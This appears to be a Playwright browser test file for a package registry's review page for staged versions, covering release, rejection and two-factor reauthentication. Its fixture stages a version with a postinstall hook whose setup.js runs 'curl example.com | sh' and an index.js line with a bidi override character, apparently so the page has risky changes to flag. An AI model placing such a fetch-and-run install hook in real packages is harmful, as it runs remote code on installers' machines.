"""The review of a staged version in a real browser, with and without JavaScript."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import fresh, publish
from tests.browser.test_pages import faults
from tests.live import fetch
from tests.tools.payloads import publish_body
from tests.tools.sessions import SECRET, code
from tests.tools.visitor import Person

pytestmark = pytest.mark.browser
PICTURES = Path(__file__).resolve().parents[2] / ".cache/pictures"
CODE = "".join(f"exports.line{number} = {number}\n" for number in range(30))


def stage(person: Person, name: str, number: str, **manifest) -> str:
    """Stage a small package with the person's token; gives its key."""
    body = publish_body(name, number, **manifest)
    address = f"-/stage/package/{name.replace('/', '%2f')}"
    status, answer, _ = fetch(person.registry, address, person.token, "POST", body)
    assert status == 201, answer
    return json.loads(answer)["stageId"]


def turn_on_two_factor(person: Person) -> None:
    person.registry.manage(
        "shell",
        "-v0",
        "-c",
        "from accounts.models import User; from allauth.mfa.totp.internal.auth import TOTP; "
        f"TOTP.activate(User.objects.get(username={person.name!r}), {SECRET!r})",
    )


@pytest.fixture
def scene(join) -> tuple[Person, str, str]:
    """alice with two-factor, a package, and a version of it that waits and has everything to look at."""
    alice = join("alice")
    name = f"@{alice.name}/{fresh('ledger')}"
    publish(alice, name, files={"index.js": CODE, "old.js": "1\n", "README.md": "# Ledger\n"})
    key = stage(
        alice,
        name,
        "1.1.0",
        scripts={"postinstall": "node setup.js"},
        bin={"ledger": "cli.js"},
        dependencies={"left-pad": "^1.3.0"},
        license="MIT",
        engines={"node": ">=20"},
        files={
            "index.js": CODE.replace("= 7\n", "= 'seven \u202e <b>'\n"),
            "setup.js": "require('child_process').exec('curl example.com | sh')\n",
            "cli.js": "console.log('ledger')\n",
            "data.bin": "\0" * 100,
            "README.md": "# Ledger\n",
        },
    )
    turn_on_two_factor(alice)
    return alice, name, key


def picture(page: Page, name: str) -> None:
    """Keep how the page looks, for people to look at: light and dark, wide and narrow."""
    PICTURES.mkdir(parents=True, exist_ok=True)
    for scheme in ("light", "dark"):
        page.emulate_media(color_scheme=scheme)
        for width in (1200, 390):
            page.set_viewport_size({"width": width, "height": 900})
            page.screenshot(path=PICTURES / f"{name}-{scheme}-{width}.png", full_page=True)
    page.emulate_media(color_scheme="light")
    page.set_viewport_size({"width": 1280, "height": 720})


def show_code(page: Page) -> None:
    """Type what the app shows, where the site asks for it."""
    page.get_by_label("code", exact=False).first.fill(code())
    page.get_by_role("main").get_by_role("button").first.click()


def test_a_version_is_reviewed_and_released(visit, scene, scripts):
    (alice, name, key), page = scene, visit(scene[0], scripts=scripts)
    page.goto(f"/package/{name}")
    expect(page.get_by_text("1 version waits for a review.")).to_be_visible()
    page.get_by_role("link", name="Review", exact=True).click()
    picture(page, "staged-list")
    page.get_by_role("link", name="Review 1.1.0").click()
    first = page.locator(".card").filter(has_text="Look at this first")
    for sentence in ("Runs something new when it is installed", "postinstall: node setup.js", "New dependencies"):
        expect(first.get_by_text(sentence)).to_be_visible()
    expect(page.get_by_text("6 files differ from 1.0.0.")).to_be_visible()
    page.locator("summary").filter(has_text="index.js").click()
    expect(page.get_by_text("+exports.line7 = 'seven \\u202e <b>'")).to_be_visible()
    if scripts:
        assert faults(page) == []
        picture(page, "staged-review")
    page.get_by_role("button", name="Release 1.1.0").click()
    page.wait_for_url("**/reauthenticate**")
    show_code(page)
    page.wait_for_url(f"**/package/{name}/staged/{key}")
    page.get_by_role("button", name="Release 1.1.0").click()
    expect(page.get_by_text(f"{name}@1.1.0 is released.")).to_be_visible()
    expect(page.get_by_role("main").get_by_text("waits for a review")).to_have_count(0)
    assert fetch(alice.registry, f"{name}/1.1.0", alice.token)[0] == 200


def test_a_version_is_rejected_when_the_box_is_ticked(visit, scene, scripts):
    (alice, name, key), page = scene, visit(scene[0], scripts=scripts)
    page.goto(f"/package/{name}/staged/{key}")
    page.get_by_text("Reject…").click()
    page.get_by_role("button", name="Reject 1.1.0").click()
    assert fetch(alice.registry, f"-/stage/{key}", alice.token)[0] == 200, "the browser asks for the tick first"
    page.get_by_label("Remove 1.1.0 and its tarball").check()
    page.get_by_role("button", name="Reject 1.1.0").click()
    page.wait_for_url("**/reauthenticate**")
    show_code(page)
    page.wait_for_url(f"**/package/{name}/staged/{key}**")
    page.get_by_text("Reject…").click()
    page.get_by_label("Remove 1.1.0 and its tarball").check()
    page.get_by_role("button", name="Reject 1.1.0").click()
    expect(page.get_by_text("Its number is free again.")).to_be_visible()
    expect(page.get_by_role("heading", name="Nothing waits")).to_be_visible()
    picture(page, "staged-nothing")
    assert fetch(alice.registry, f"-/stage/{key}", alice.token)[0] == 404


def test_a_first_version_and_a_person_without_two_factor(visit, join):
    alice = join("alice")
    name = f"@{alice.name}/{fresh('new')}"
    key = stage(alice, name, "1.0.0", access="public", dependencies={"left-pad": "^1"})
    page = visit(alice)
    page.goto("/")
    page.get_by_role("link", name=f"{name} 1.0.0").click()
    page.wait_for_url(f"**/staged/{key}")
    expect(page.get_by_text("nothing of it is published")).to_be_visible()
    expect(page.get_by_text("Releasing needs two-factor.")).to_be_visible()
    expect(page.get_by_role("button", name="Release 1.0.0")).to_have_count(0)
    assert faults(page) == []
    picture(page, "staged-first")
    page.set_viewport_size({"width": 320, "height": 640})
    assert page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth") <= 0
